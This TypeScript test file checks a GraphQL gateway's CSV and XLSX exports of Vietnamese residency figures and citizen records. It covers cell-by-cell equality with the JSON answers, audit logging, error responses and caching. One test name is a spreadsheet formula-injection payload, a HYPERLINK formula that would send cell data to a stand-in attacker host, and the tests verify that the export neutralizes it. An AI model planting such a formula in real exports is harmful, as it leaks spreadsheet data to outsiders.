/**
 * CSV and XLSX answers through the gateway (gateway/export), as analysts and links ask for them:
 * parsed back (csv-parse, exceljs) and compared cell by cell with the JSON answer of the same
 * operation, itself checked against the fixture; a negative number stays a number, a Vietnamese
 * name survives (UTF-8 with a BOM), a formula-like name is neutralized, an analyst's protected
 * figures are the same in every format; person-level exports are audited;
 * errors are JSON with a 4xx, never half a file; exports are cached under keys of their own,
 * which also cover today's date; Cache-Control follows the caller.
 */
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { placeOf } from '../../lib/areas';
import { upsertFacts } from '../../lib/fact-store';
import { applyDeltas } from '../../lib/summaries';
import { citizenFacts, residencySummary } from '../../services/residency/facts';
import { loadPersistedOperations } from '../../gateway/persisted-operations';
import { countResidency, makeFixture } from '../helpers/fixture';
import { oldCommunesOf, reference, successorsOf } from '../helpers/reference';
import { startGraph, testDatabases, tokenFor, type Caller, type RunningGraph } from '../helpers/graph';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const fixture = makeFixture('export', 6);

// A name that would run as a formula in Excel, and one with Vietnamese diacritics.
const FORMULA_NAME = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Xem")';
const VIETNAMESE_NAME = 'Nguyễn Thị Hằng Đặng';
// A commune of Chí Linh (three-tier) that passed whole into one new commune: its facts have one place.
const COMMUNE = oldCommunesOf('290').find((c) => successorsOf(c).length === 1)!;
const inCommune = fixture.citizens.filter((c) => c.communeCode === COMMUNE && c.communeStructure === 'THREE_TIER');
/** True when a three-tier commune lies in a three-tier unit (the unit itself, its district or province). */
const communeIn = (commune: string, area: string) => {
  const c = reference().oldCommunes.get(commune)!;
  return area === 'VN' || [c.code, c.district, c.province].includes(area);
};
inCommune[0].fullName = FORMULA_NAME;
inCommune[1].fullName = VIETNAMESE_NAME;

/**
 * A correction removing more registrations from the commune in June 2024 than were made there
 * that month: its `newRegistrations` for 2024-06 is negative (-2), as a correction delivered as
 * figures could make it. Written as the domain's write path writes figures (applyDeltas).
 */
const JUNE = { start: '2024-06-01', end: '2024-06-30' };
const removed = countResidency(fixture, COMMUNE, JUNE.start, JUNE.end).newRegistrations + 2;

/** The figures the graph should give, from the fixture rows and the correction. */
function expected(areaCode: string, start: string, end: string) {
  const counted = countResidency(fixture, areaCode, start, end);
  const corrected = communeIn(COMMUNE, areaCode);
  return {
    population: counted.population,
    newRegistrations: counted.newRegistrations - (corrected && start <= '2024-06-10' && end >= '2024-06-10' ? removed : 0),
    eidLevel2: counted.eidLevel2,
  };
}

const DISTRICTS = `query DistrictFigures($p: String!) { province(code: "30", structure: THREE_TIER) { name districts { code name stats(period: $p) {
  residency { population newRegistrations eidLevel2 protected } indicators { eidLevel2Coverage } } } } }`;
const COMMUNES = `query CommuneFigures { district(code: "290") { name communes { code name stats(period: "2024-06") { residency { population newRegistrations } } } } }`;
const PEOPLE = `query People($c: String!) { citizens(communeCode: $c, structure: THREE_TIER, first: 100) { totalCount nodes { id fullName residenceCommuneCode } } }`;

interface Reply {
  status: number;
  headers: Headers;
  bytes: Buffer;
  text: string;
}

async function ask(graph: RunningGraph, query: string, variables: Record<string, unknown>, as: Caller, headers: Record<string, string> = {}, urlSuffix = ''): Promise<Reply> {
  const h: Record<string, string> = { 'content-type': 'application/json', ...headers };
  if (as !== 'anonymous') h.authorization = `Bearer ${await tokenFor(as)}`;
  const res = await fetch(graph.gatewayUrl + urlSuffix, { method: 'POST', headers: h, body: JSON.stringify({ query, variables }) });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, bytes, text: bytes.toString('utf8') };
}

/** A cell as CSV writes it: numbers as JavaScript prints them, nulls empty, formula-like text with a leading apostrophe. */
const csvText = (v: unknown) => (v === null ? '' : typeof v === 'string' && /^[=+\-@]/.test(v) ? `'${v}` : String(v));
const xlsxValue = (v: unknown) => (typeof v === 'string' && /^[=+\-@]/.test(v) ? `'${v}` : v);

async function xlsxRows(bytes: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: unknown[][] = [];
  // Read once: exceljs counts the columns over every row each time it is asked.
  const columns = sheet.columnCount;
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const cells: unknown[] = [];
    for (let i = 1; i <= columns; i++) cells.push(row.getCell(i).value ?? null);
    rows.push(cells);
  });
  return rows;
}

/** The district table an analyst should get, read from the JSON answer by hand (not by the gateway's flattening). */
function districtTable(json: any): unknown[][] {
  return json.data.province.districts.map((d: any) => [
    json.data.province.name,
    d.code,
    d.name,
    d.stats.residency.population,
    d.stats.residency.newRegistrations,
    d.stats.residency.eidLevel2,
    d.stats.residency.protected,
    d.stats.indicators.eidLevel2Coverage,
  ]);
}
const DISTRICT_COLUMNS = [
  'province.name',
  'province.districts.code',
  'province.districts.name',
  'province.districts.stats.residency.population',
  'province.districts.stats.residency.newRegistrations',
  'province.districts.stats.residency.eidLevel2',
  'province.districts.stats.residency.protected',
  'province.districts.stats.indicators.eidLevel2Coverage',
];

describe.each(testDatabases())('CSV and XLSX answers on $label', (database) => {
  let graph: RunningGraph;

  beforeAll(async () => {
    graph = await startGraph(database.config('export'), async (dbs) => {
      await dbs.residency.transaction((trx) => upsertFacts(trx, citizenFacts, fixture.citizens));
      const place = placeOf(COMMUNE, 'THREE_TIER', 'correction', 'people').cell;
      await dbs.residency.transaction((trx) => applyDeltas(trx, residencySummary, [{ place, date: '2024-06-10', metric: 'registrations', delta: -removed }], { deliveredThrough: '2026-11-29' }));
    });
  });
  afterAll(() => graph?.stop());

  test("an analyst's CSV and XLSX are the JSON answer cell by cell: the same protected figures in every format", async () => {
    const analyst: Caller = { role: 'analyst' };
    const json = JSON.parse((await ask(graph, DISTRICTS, { p: '2024-06' }, analyst)).text);
    expect(json.errors).toBeUndefined();
    // The JSON is right: each count protected, within 2 of the truth (a negative correction is left as it is).
    const rows = districtTable(json);
    for (const d of json.data.province.districts) {
      const exact = expected(d.code, JUNE.start, JUNE.end);
      expect(d.stats.residency.protected).toBe(true);
      for (const figure of ['population', 'newRegistrations', 'eidLevel2'] as const) {
        const value = d.stats.residency[figure];
        expect({ district: d.code, figure, close: Math.abs(value - exact[figure]) <= 2 }).toEqual({ district: d.code, figure, close: true });
      }
    }

    const csv = await ask(graph, DISTRICTS, { p: '2024-06' }, analyst, { accept: 'text/csv' });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="DistrictFigures.csv"');
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = parseCsv(csv.bytes, { bom: true }) as string[][];
    expect(parsed[0]).toEqual(DISTRICT_COLUMNS);
    expect(parsed.slice(1)).toEqual(rows.map((r) => r.map(csvText)));
    expect(csv.text).toContain('Tỉnh Hải Dương,290,Thành phố Chí Linh,');

    const xlsx = await ask(graph, DISTRICTS, { p: '2024-06' }, analyst, { accept: XLSX });
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe(XLSX);
    const sheet = await xlsxRows(xlsx.bytes);
    expect(sheet[0]).toEqual(DISTRICT_COLUMNS);
    // Numbers are number cells, booleans boolean cells, text as the JSON has it.
    expect(sheet.slice(1)).toEqual(rows.map((r) => r.map((v) => (v === '' ? null : xlsxValue(v)))));
    expect(sheet.slice(1).flat().some((v) => typeof v === 'number')).toBe(true);
  });

  test('an admin sees the negative figure: a number in CSV (unquoted) and in XLSX', async () => {
    const json = JSON.parse((await ask(graph, COMMUNES, {}, { role: 'admin' })).text);
    const commune = json.data.district.communes.find((c: any) => c.code === COMMUNE).stats.residency;
    expect(commune.newRegistrations).toBe(-2);
    expect(commune.population).toBe(expected(COMMUNE, JUNE.start, JUNE.end).population);
    const table = json.data.district.communes.map((c: any) => [json.data.district.name, c.code, c.name, c.stats.residency.population, c.stats.residency.newRegistrations]);

    const csv = await ask(graph, COMMUNES, {}, { role: 'admin' }, {}, '?format=csv');
    const parsed = parseCsv(csv.bytes, { bom: true }) as string[][];
    expect(parsed.slice(1)).toEqual(table.map((r: unknown[]) => r.map(csvText)));
    expect(csv.text).toMatch(new RegExp(`,${COMMUNE},[^,]+,${commune.population},-2\\r\\n`));

    const sheet = await xlsxRows((await ask(graph, COMMUNES, {}, { role: 'admin' }, {}, '?format=xlsx')).bytes);
    expect(sheet.slice(1)).toEqual(table);
    expect(sheet.slice(1).find((r) => r[1] === COMMUNE)![4]).toBe(-2);
  });

  test('a person-level export: formula-like names neutralized, Vietnamese names intact, audited like JSON, never cached', async () => {
    const admin: Caller = { role: 'admin', sub: 'export-admin' };
    const auditRows = async () => Number((await graph.dbs.audit('audit_log').count({ n: '*' }))[0].n);
    const before = await auditRows();
    const json = JSON.parse((await ask(graph, PEOPLE, { c: COMMUNE }, admin)).text);
    expect(json.data.citizens.nodes.map((n: any) => n.fullName)).toEqual(expect.arrayContaining([FORMULA_NAME, VIETNAMESE_NAME]));
    const table = json.data.citizens.nodes.map((n: any) => [json.data.citizens.totalCount, n.id, n.fullName, n.residenceCommuneCode]);

    const csv = await ask(graph, PEOPLE, { c: COMMUNE }, admin, { accept: 'text/csv' });
    expect(csv.headers.get('cache-control')).toBe('private, no-store');
    expect(csv.headers.get('x-cache')).toBe('BYPASS');
    const parsed = parseCsv(csv.bytes, { bom: true }) as string[][];
    expect(parsed[0]).toEqual(['citizens.totalCount', 'citizens.nodes.id', 'citizens.nodes.fullName', 'citizens.nodes.residenceCommuneCode']);
    expect(parsed.slice(1)).toEqual(table.map((r: unknown[]) => r.map(csvText)));
    expect(parsed.slice(1).map((r) => r[2])).toEqual(expect.arrayContaining([`'${FORMULA_NAME}`, VIETNAMESE_NAME]));
    expect(csv.text).not.toMatch(/^=|,=/m);

    const sheet = await xlsxRows((await ask(graph, PEOPLE, { c: COMMUNE }, admin, { accept: XLSX })).bytes);
    expect(sheet.slice(1)).toEqual(table.map((r: unknown[]) => r.map(xlsxValue)));
    expect(sheet.slice(1).map((r) => r[2])).toContain(`'${FORMULA_NAME}`);

    // Three reads (JSON, CSV, XLSX), three audit records naming the same people.
    expect(await auditRows()).toBe(before + 3);
    const last = await graph.dbs.audit('audit_log').orderBy('id', 'desc').limit(2);
    for (const record of last) {
      expect(record.subject).toBe('export-admin');
      expect(String(record.personal_ids).split(';').sort()).toEqual(json.data.citizens.nodes.map((n: any) => n.id).sort());
    }
  });

  test('an answer with errors is its JSON with a 4xx, never a file', async () => {
    const badPeriod = await ask(graph, DISTRICTS, { p: '2024-13' }, { role: 'analyst' }, { accept: 'text/csv' });
    expect(badPeriod.status).toBe(400);
    expect(badPeriod.headers.get('content-type')).toMatch(/^application\/json/);
    expect(JSON.parse(badPeriod.text).errors[0]).toMatchObject({ message: expect.stringContaining('2024-13'), extensions: { code: 'BAD_USER_INPUT' } });

    const forbidden = await ask(graph, PEOPLE, { c: COMMUNE }, { role: 'analyst' }, {}, '?format=xlsx');
    expect(forbidden.status).toBe(403);
    expect(JSON.parse(forbidden.text).errors[0].extensions.code).toBe('FORBIDDEN');

    const anonymous = await ask(graph, DISTRICTS, { p: '2024-06' }, 'anonymous', { accept: 'text/csv' });
    expect(anonymous.status).toBe(401);
    expect(JSON.parse(anonymous.text).errors[0].extensions.code).toBe('UNAUTHENTICATED');

    const unknown = await ask(graph, DISTRICTS, { p: '2024-06' }, { role: 'analyst' }, {}, '?format=pdf');
    expect(unknown.status).toBe(400);
    expect(JSON.parse(unknown.text).errors[0].message).toBe('Unknown answer format "pdf" in the format parameter: use json, csv or xlsx (once)');
  });

  test('exports are cached under keys of their own, which cover today\'s date; Cache-Control follows the caller', async () => {
    const analyst: Caller = { role: 'analyst' };
    const vars = { p: '2024-03' };
    const csv1 = await ask(graph, DISTRICTS, vars, analyst, { accept: 'text/csv' });
    expect(csv1.headers.get('x-cache')).toBe('MISS');
    graph.resetCounts();
    const csv2 = await ask(graph, DISTRICTS, vars, analyst, { accept: 'text/csv' });
    expect(csv2.headers.get('x-cache')).toBe('HIT');
    expect(csv2.bytes.equals(csv1.bytes)).toBe(true);
    expect(csv2.headers.get('content-disposition')).toBe(csv1.headers.get('content-disposition'));
    expect(Object.values(graph.subgraphRequests).reduce((a, b) => a + b, 0)).toBe(0);
    // The same operation in another format is another entry.
    const json = await ask(graph, DISTRICTS, vars, analyst);
    expect(json.headers.get('x-cache')).toBe('MISS');
    expect(JSON.parse(json.text).data.province.name).toBe('Tỉnh Hải Dương');
    const xlsx1 = await ask(graph, DISTRICTS, vars, analyst, { accept: XLSX });
    const xlsx2 = await ask(graph, DISTRICTS, vars, analyst, {}, '?format=xlsx');
    expect([xlsx1.headers.get('x-cache'), xlsx2.headers.get('x-cache')]).toEqual(['MISS', 'HIT']);
    expect(xlsx2.bytes.equals(xlsx1.bytes)).toBe(true);
    expect(xlsx2.headers.get('content-type')).toBe(XLSX);

    // Another day is another key (TODAY stands in for the calendar here).
    const today = process.env.TODAY;
    process.env.TODAY = '2031-01-01';
    try {
      expect((await ask(graph, DISTRICTS, vars, analyst, { accept: 'text/csv' })).headers.get('x-cache')).toBe('MISS');
    } finally {
      process.env.TODAY = today;
    }
    expect((await ask(graph, DISTRICTS, vars, analyst, { accept: 'text/csv' })).headers.get('x-cache')).toBe('HIT');

    for (const reply of [csv1, csv2, json, xlsx1]) {
      expect(reply.headers.get('cache-control')).toBe('private, max-age=60');
      expect(reply.headers.get('vary')).toBe('Authorization, Accept');
    }
  });

  test('a link (GET, ?format=csv, a browser\'s Accept) answers a table of what anyone may read, public; and a persisted operation by hash too', async () => {
    const query = '{ provinces(structure: THREE_TIER) { code name districts { code name } } }';
    const link = `${graph.gatewayUrl}?query=${encodeURIComponent(query)}&format=csv`;
    const res = await fetch(link, { headers: { accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('public, max-age=60');
    const parsed = parseCsv(Buffer.from(await res.arrayBuffer()), { bom: true }) as string[][];
    const json = JSON.parse((await ask(graph, query, {}, 'anonymous')).text);
    const table = json.data.provinces.flatMap((p: any) => p.districts.map((d: any) => [p.code, p.name, d.code, d.name]));
    expect(table.length).toBeGreaterThan(600);
    expect(parsed).toEqual([['provinces.code', 'provinces.name', 'provinces.districts.code', 'provinces.districts.name'], ...table]);

    // A registered operation sent by its hash over GET, as a table.
    const op = loadPersistedOperations().operations.find((o) => o.name === 'DistrictsOfProvince')!;
    const byHash = `${graph.gatewayUrl}?extensions=${encodeURIComponent(JSON.stringify({ persistedQuery: { version: 1, sha256Hash: op.hash } }))}&variables=${encodeURIComponent(JSON.stringify({ province: '30', period: '2024-06' }))}&format=csv`;
    const persisted = await fetch(byHash, { headers: { authorization: `Bearer ${await tokenFor({ role: 'analyst' })}` } });
    expect(persisted.status).toBe(200);
    const rows = parseCsv(Buffer.from(await persisted.arrayBuffer()), { bom: true }) as string[][];
    const asJson = JSON.parse((await ask(graph, op.text, { province: '30', period: '2024-06' }, { role: 'analyst' })).text);
    const header = rows[0];
    const column = (name: string) => header.indexOf(name);
    expect(rows.slice(1).map((r) => [r[column('districts.code')], r[column('districts.stats.residency.population')], r[column('districts.stats.residency.eidLevel2')]])).toEqual(
      asJson.data.districts.map((d: any) => [d.code, csvText(d.stats.residency.population), csvText(d.stats.residency.eidLevel2)]),
    );
  });

  // Reference data only: the same on every database, so run once.
  (database.label === 'sqlite' ? test : test.skip)('a large answer is streamed as it is written: every commune of the country, in CSV and XLSX', async () => {
    const query = '{ provinces(structure: THREE_TIER) { code districts { code communes { code name } } } }';
    const json = JSON.parse((await ask(graph, query, {}, 'anonymous')).text);
    // A district without communes (island districts) still has its row, the commune cells empty.
    const table = json.data.provinces.flatMap((p: any) => p.districts.flatMap((d: any) => (d.communes.length ? d.communes.map((c: any) => [p.code, d.code, c.code, c.name]) : [[p.code, d.code, null, null]])));
    expect(table.length).toBeGreaterThan(10_000);
    expect(table.filter((r: unknown[]) => r[2] === null).length).toBeGreaterThan(0);
    for (const format of ['csv', 'xlsx']) {
      const res = await fetch(`${graph.gatewayUrl}?format=${format}`, { method: 'POST', headers: { 'content-type': 'application/json', 'cache-control': 'no-cache' }, body: JSON.stringify({ query }) });
      // No length known in advance: the body is sent in chunks as rows are written.
      expect([res.headers.get('transfer-encoding'), res.headers.get('content-length')]).toEqual(['chunked', null]);
      const chunks: Buffer[] = [];
      for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) chunks.push(Buffer.from(chunk));
      expect(chunks.length).toBeGreaterThan(1);
      const bytes = Buffer.concat(chunks);
      const rows = format === 'csv' ? (parseCsv(bytes, { bom: true }) as string[][]) : await xlsxRows(bytes);
      expect(rows.length).toBe(table.length + 1);
      // Compared row by row: a failing comparison of 10,000 rows would take jest minutes to print.
      const want = format === 'csv' ? table.map((r: unknown[]) => r.map(csvText)) : table;
      const firstDifference = want.findIndex((r: unknown[], i: number) => JSON.stringify(r) !== JSON.stringify(rows[i + 1]));
      expect({ format, firstDifference, got: rows[firstDifference + 1], want: want[firstDifference] }).toEqual({ format, firstDifference: -1, got: rows[0], want: undefined });
    }
  });
});
